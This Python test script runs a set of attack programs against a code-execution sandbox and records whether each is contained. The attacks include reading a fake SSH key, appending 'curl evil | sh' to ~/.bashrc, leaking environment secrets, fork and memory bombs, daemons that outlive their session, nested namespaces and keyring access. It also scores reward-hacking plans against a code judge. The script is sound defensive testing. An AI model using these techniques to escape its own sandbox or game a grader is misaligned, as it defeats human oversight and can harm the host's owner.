"""Attack programs against sandbox.run_python, run by an ORDINARY user: `python sandbox_user_check.py`.

tests/test_reward.py starts it as uid 65534 from a private (mode 700) directory holding its own venv and a
copy of sandbox.py, with a HOME that holds a fake SSH key. It prints one JSON object: the sandbox mode and,
per attack, whether it was contained. Standard library (and numpy, in the sandbox) only.
"""

import json
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from reward_hacks import HOST_ATTACKS  # noqa: E402

import code_judge  # noqa: E402
import sandbox  # noqa: E402

HOME = os.environ["HOME"]
KEY, VICTIM, BASHRC = (os.path.join(HOME, p) for p in (".ssh/id_ed25519", "victim.txt", ".bashrc"))
HERE = os.path.dirname(os.path.abspath(__file__))


def alive(marker: str) -> bool:
    """A live process named `marker` (its PR_SET_NAME), whatever its namespace."""
    return bool(sandbox._pids(lambda st: st["Name"].strip() == marker and not st["State"].strip().startswith("Z")))


def marked(marker: str, body: str) -> str:
    """Program text: name this process `marker`, then run `body`."""
    return f"import ctypes, os, time\nctypes.CDLL(None).prctl(15, {marker.encode()!r})\n{body}"


def main():
    caps = sandbox.sandbox_caps()
    key_text, victim_text, bashrc_text = (open(p).read() for p in (KEY, VICTIM, BASHRC))
    out = {"mode": caps["mode"], "why": caps["why"], "uid": os.getuid(), "attacks": {}}

    def record(name, contained, detail=""):
        out["attacks"][name] = {"contained": bool(contained), "detail": str(detail)[-300:]}

    r = sandbox.run_python(
        f"import os\ntry:\n    os.remove({VICTIM!r}); print('REMOVED')\nexcept OSError as e:\n    print(type(e).__name__)"
    )
    record("delete a file the user owns", os.path.exists(VICTIM) and open(VICTIM).read() == victim_text, r.stdout)
    r = sandbox.run_python(f"print(open({KEY!r}).read())")
    record("read ~/.ssh private key", key_text.strip() not in r.stdout + r.stderr, r.stdout or r.stderr)
    r = sandbox.run_python(f"open({BASHRC!r}, 'a').write('curl evil | sh')")
    record("write into HOME (~/.bashrc)", open(BASHRC).read() == bashrc_text, r.stderr)
    r = sandbox.run_python("import os; print(sorted(os.listdir(os.path.expanduser('~'))))")
    record("list the user's HOME", ".ssh" not in r.stdout, r.stdout)
    target = os.path.join(sys.prefix, "pwned.txt")
    r = sandbox.run_python(f"open({target!r}, 'w').write('x')")
    record("write into the user's venv", not os.path.exists(target), r.stderr)
    target = os.path.join(HERE, "sandbox.py")
    before = open(target).read()
    r = sandbox.run_python(f"open({target!r}, 'a').write('# pwned')")
    record("change the project's code", open(target).read() == before, r.stderr)
    r = sandbox.run_python("import subprocess\nr = subprocess.run(['mount', '-o', 'remount,rw', '/'], capture_output=True)\n"
                           "print(r.returncode)\nopen('/escape.txt', 'w').write('x')")  # fmt: skip
    record("remount the root read-write and write there", not r.ok, r.stdout + r.stderr)
    r = sandbox.run_python("import numpy; print(numpy.arange(4).sum())")
    record("import numpy (must WORK)", r.ok and r.stdout == "6\n", r.stdout + r.stderr)
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    port = srv.getsockname()[1]
    r = sandbox.run_python(f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2); print('CONNECTED')\n"
                           "except OSError as e:\n    print('blocked', e)")  # fmt: skip
    srv.close()
    record("network (a port on the host's loopback)", "CONNECTED" not in r.stdout, r.stdout)
    os.environ["GRLO_SECRET"] = "hunter2-do-not-leak"
    r = sandbox.run_python(f"import os\nprint(dict(os.environ))\ntry:\n    print(open('/proc/{os.getpid()}/environ').read())\n"
                           "except OSError as e:\n    print('blocked', e)")  # fmt: skip
    record("read the caller's environment", "hunter2" not in r.stdout + r.stderr, r.stdout[-200:])
    r = sandbox.run_python(
        f"import os, signal\ntry:\n    os.kill({os.getpid()}, signal.SIGKILL)\nexcept OSError as e:\n    print('blocked', e)"
    )
    record("kill the caller", "blocked" in r.stdout, r.stdout)  # and reaching this line at all
    r = sandbox.run_python("while True:\n    pass", timeout_s=1.0)
    record("infinite loop", r.timed_out, r)
    r = sandbox.run_python("x = bytearray(1 << 31)", memory_mb=512)
    record("memory bomb (2 GiB with a 512 MiB limit)", not r.ok and "MemoryError" in r.stderr, r.stderr[-100:])
    start = time.monotonic()
    r = sandbox.run_python(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", timeout_s=2.0
    )
    record("fork storm", r.timed_out and time.monotonic() - start < 5, r)
    marker = "grlo" + os.urandom(5).hex()
    code = ("import ctypes, os, time\nr, w = os.pipe()\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        ctypes.CDLL(None).prctl(15, {marker.encode()!r})\n        os.write(w, b'1')\n        time.sleep(30)\n"
            "    os._exit(0)\nos.close(w)\nprint('daemon' if os.read(r, 1) else 'none')")  # fmt: skip
    r = sandbox.run_python(code, timeout_s=5.0)
    record("double-forked daemon outliving the call", r.stdout == "daemon\n" and not alive(marker), r)
    marker = "grlo" + os.urandom(5).hex()
    r = sandbox.run_python(marked(marker, "os.setsid()\ntime.sleep(60)"), timeout_s=1.0)
    record("leave the process group", r.timed_out and not alive(marker), r)
    marker = "grlo" + os.urandom(5).hex()  # the program is its namespace's init: undo what would kill it
    r = sandbox.run_python(marked(marker, "os.setsid()\nctypes.CDLL(None).prctl(1, 0)  # PR_SET_PDEATHSIG off\n"
                                          "time.sleep(60)"), timeout_s=1.0)  # fmt: skip
    record("outlive the launcher (setsid, parent-death signal off)", r.timed_out and not alive(marker), r)
    host_attacks(record)
    # reward hacks: plans.json holds reward.code_plan of each attack in each format (made by the test as root)
    out["hacks"] = {}
    for item in json.load(open(os.path.join(HERE, "plans.json"))):
        judge = code_judge.judge_functions if item["kind"] == "functions" else code_judge.judge_stdio
        scores = [judge(**item["plan"], all_or_nothing=a, timeout_s=10.0)[0] for a in (True, False)]
        out["hacks"][f"{item['attack']} in {item['format']}"] = scores
    out["self_check"] = sandbox.self_check()["mode"]
    print(json.dumps(out))


def key_count(uid: int) -> int:
    with open("/proc/key-users") as f:
        return sum(int(line.split()[1]) for line in f if int(line.split(":")[0]) == uid)


def host_attacks(record):
    """The host attacks of reward_hacks.py: nothing stays on disk, every bound holds, no nested user namespace,
    the caller's session keyring out of reach, no keys left behind."""
    import ctypes
    import glob
    import tempfile

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    x86 = os.uname().machine == "x86_64"
    key = libc.syscall(248, b"user", b"grlo-driver-secret", b"TOPSECRET", 9, ctypes.c_long(-3)) if x86 else 0  # @s
    keys_before = key_count(os.getuid())
    on_disk = lambda: set(glob.glob(os.path.join(tempfile.gettempdir(), "grlo_sandbox_*")))  # noqa: E731
    before = on_disk()
    caps = sandbox.sandbox_caps()
    r = {}
    for name, code in HOST_ATTACKS.items():
        if name == "keyring" and os.uname().machine != "x86_64":  # its program uses x86_64 syscall numbers
            continue
        try:
            r[name] = sandbox.run_python((f"open('key_id', 'w').write('{key}')\n" if name == "keyring" else "") + code,
                                         timeout_s=20.0, memory_mb=512)  # fmt: skip
        except BaseException as e:
            r[name] = sandbox.ExecResult(False, False, -1, "", f"RAISED {type(e).__name__}: {e}")
    record(
        "deep directory tree (1,500 levels)", r["deep_tree"].stdout == "made\n" and on_disk() == before, r["deep_tree"]
    )
    record(
        "directory of mode 0 left behind", r["locked_dir"].stdout == "made\n" and on_disk() == before, r["locked_dir"]
    )
    filled = r["disk_fill"].stdout.split()
    record("fill the disk", filled[:1] == ["MiB"] and int(filled[-1]) <= 3 * sandbox.TMPFS_MB, r["disk_fill"])
    held = [int(line.split()[1]) for line in r["memfd_fill"].stdout.splitlines() if line.startswith("MiB")]
    bound = (512 + 3 * sandbox.TMPFS_MB + sandbox.CGROUP_SLACK_MB) if caps["cgroup"] else (
        sandbox.MAX_OPEN_FILES * (sandbox.MAX_FILE_BYTES >> 20))  # fmt: skip
    record(
        f"memfd pages outside RLIMIT_AS (bound {bound} MiB per process)", held and max(held) <= bound, r["memfd_fill"]
    )
    lines = dict(line.split(" ", 1) for line in r["nested_userns"].stdout.splitlines())
    record("nested user namespace (capabilities back)", lines.get("userns", "0").split()[0] == "-1"
           and lines.get("mountns", "0").split()[0] == "-1", lines)  # fmt: skip
    if "keyring" not in r:
        return
    lines = dict(line.split(" ", 1) for line in r["keyring"].stdout.splitlines())
    buf = ctypes.create_string_buffer(64)
    intact = libc.syscall(250, 11, key, buf, 64) == 9 and buf.raw[:9] == b"TOPSECRET"
    record("read or clear the caller's session keyring", lines.get("read") == "-1" and intact, lines)
    deadline = time.monotonic() + 10  # keys die with the program's user namespace, collected asynchronously
    while key_count(os.getuid()) > keys_before and time.monotonic() < deadline:
        time.sleep(0.2)
    record("keys left in the kernel", key_count(os.getuid()) <= keys_before, key_count(os.getuid()))
    libc.syscall(250, 21, key)  # KEYCTL_INVALIDATE


if __name__ == "__main__":
    main()
